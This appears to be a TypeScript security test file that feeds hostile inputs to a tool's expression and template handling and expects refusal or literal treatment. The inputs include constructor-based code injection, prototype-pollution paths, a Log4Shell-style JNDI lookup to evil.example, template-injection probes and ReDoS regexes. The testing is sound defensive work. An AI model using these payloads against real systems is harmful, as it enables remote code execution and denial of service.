import { readFileSync } from "node:fs";
import { admit } from "@omnibase/core";
import type { Expected, HostileInput, Said } from "./case.ts";
import { runEcho } from "./rows-payloads.ts";

const contract = readFileSync(new URL("../../examples/01-greet/contracts/CC_KEEP_V0.yaml", import.meta.url), "utf8");
const intent = readFileSync(new URL("artifacts/IN_ECHO_V0.yaml", import.meta.url), "utf8");

/** A text where a contract binds an input of a step. */
const bound = (text: string): Readonly<Record<string, string>> => ({
  "contracts/CC_KEEP_V0.yaml": contract.replace("data: $.inputs.name", () => `data: ${JSON.stringify(text)}`),
});

type Row = readonly [row: string, name: string, text: string, code: string, more?: Partial<Expected>];

/** Texts that look like a way to a value, and are none. Where each stands is told to the column. */
const refused: readonly Row[] = [
  ["F04", "a way to a constructor", '$.inputs.constructor.constructor("return process")()', "EXPR_KEY_RESERVED"],
  ["F04", "a field that nobody declares", "$.inputs.process", "INPUT_FIELD_UNKNOWN"],
  ["F05", "__proto__", "$.__proto__.polluted", "EXPR_KEY_RESERVED"],
  ["F05", "a prototype, deeper", "$.inputs.name.prototype", "EXPR_KEY_RESERVED"],
  ["F05", "a key in brackets", '$["constructor"]', "EXPR_UNSUPPORTED"],
  ["F05", "everything below", "$..*", "EXPR_UNSUPPORTED"],
  ["F06", "10,000 parentheses", `$.${"(".repeat(4_000)}`, "EXPR_UNSUPPORTED"],
  ["F06", "a path of 65 names", `$.inputs${".a".repeat(65)}`, "EXPR_TOO_DEEP"],
  ["F06", "a path of 200 KiB", `$.inputs.${"a".repeat(204_800)}`, "EXPR_TOO_LARGE"],
  ["F06", "100,000 terms", `$.${"a+".repeat(100_000)}a`, "EXPR_TOO_LARGE"],
  ["F06", "1 MiB", `$.inputs.${"a".repeat(1_048_576)}`, "ARTIFACT_TOO_LARGE", { at: "1:1" }],
  ["F07", "a secret", "{{secret.x}}", "CAPABILITY_DENIED"],
  ["F07", "a template in a template", "{{ {{x}} }}", "TEMPLATE_UNKNOWN"],
  ["F09", "an index", "$[99999999]", "EXPR_UNSUPPORTED"],
  ["F09", "a negative index", "$[-1]", "EXPR_UNSUPPORTED"],
  ["F09", "a filter with a function", "$.inputs.name[?(@.a == length(@.b))]", "EXPR_UNSUPPORTED"],
];

/** Texts that somebody else's template engine would execute. To us they are texts, wherever they stand. */
const literal: readonly (readonly [row: string, text: string])[] = [
  ["F04", 'constructor.constructor("return process")()'],
  ["F07", "a value with {{timestamp}} in it"],
  ["F11", "${jndi:ldap://evil.example/x}"],
  ["F11", "<%= 7 * 7 %>"],
  ["F11", "#{7*7}"],
];

/** In data, even what our own artifacts would read is text. */
const inData: readonly (readonly [row: string, text: string])[] = [
  ["F07", "{{secret.x}}"],
  ["F07", "{{timestamp}}"],
  ["F07", "$.payload.value"],
  ["F11", "{{7*7}}"],
  ["F11", "${jndi:ldap://evil.example/x}"],
];

/** What an execution returned is what was sent. */
const returned =
  (value: unknown) =>
  ({ document }: Said): string | undefined => {
    const outputs: unknown = Reflect.get(Object(document), "outputs");
    const found: unknown = Reflect.get(Object(outputs), "value");
    return found === value ? undefined : `it returned ${JSON.stringify(found)}, not ${JSON.stringify(value)}`;
  };

const echoed = (row: string, name: string, value: string | number): HostileInput => ({
  row,
  name,
  lane: "cli-run",
  expect: { exit: [0], also: returned(value) },
  ask: { argv: runEcho, files: { "payload.json": JSON.stringify({ value }) } },
});

const times: Readonly<Record<string, string>> = {
  "a thirteenth month": "2026-13-45T00:00:00Z",
  "year 275761": "275761-01-01T00:00:00Z",
  "year -1": "-000001-01-01T00:00:00Z",
  "no zone": "2026-01-01T00:00:00",
  "a leap second": "2016-12-31T23:59:60Z",
};

/** How an intent admits a text by a pattern. */
function matched(pattern: string, text: string): Said {
  const { nack } = admit({ value: { type: "string", required: true, pattern } }, { value: text });
  return { exit: nack.length === 0 ? 0 : 1, stdout: "", stderr: "", document: undefined, problem: undefined };
}

/** As what holds where nothing is sent; what is sent is admitted by the same rule. */
const dated = (value: string): string =>
  intent.replace("type: any, required: true", `type: string, format: date-time, default: "${value}"`);

/** What another engine would think about for ages. */
const slow: readonly (readonly [pattern: string, text: string, exit: number])[] = [
  ["^(a+)+$", `${"a".repeat(40)}!`, 1],
  ["(a|a)*b", "a".repeat(10_000), 1],
  ["(.*a){20}", "a".repeat(10_000), 0],
];

export const valueInputs: readonly HostileInput[] = [
  ...slow.map(([pattern, text, exit]): HostileInput => ({
    row: "F01",
    name: `${pattern}, in less than 50 ms`,
    lane: "library",
    expect: { exit: [exit], msMax: 50 },
    ask: { call: () => matched(pattern, text) },
  })),
  ...refused.map(([row, name, text, code, more = { at: "15:35" }]): HostileInput => ({
    row,
    name,
    lane: "cli-compile",
    expect: { exit: [4], code, ...more },
    ask: { argv: ["check", "--json"], files: bound(text) },
  })),
  ...literal.map(([row, text]): HostileInput => ({
    row,
    name: `declared: ${text}`,
    lane: "cli-compile",
    expect: { exit: [0] },
    ask: { argv: ["check", "--json"], files: bound(text) },
  })),
  ...inData.map(([row, text]) => echoed(row, `sent: ${text}`, text)),
  ...Object.entries(times).map(([name, value]): HostileInput => ({
    row: "E01",
    name,
    lane: "cli-compile",
    expect: { exit: [4], code: "FIELD_CONTRADICTION", at: "7:12", message: /date-time/ },
    ask: { argv: ["check", "--json"], files: { "contracts/IN_ECHO_V0.yaml": dated(value) } },
  })),
  ...["2016-11-21T00:00:00Z", "2036-11-21T00:00:00Z"].map((value) => echoed("E02", `a time of ${value}`, value)),
  echoed("E06", "0.1 + 0.2", 0.1 + 0.2),
  echoed("E06", "1e21", 1e21),
];
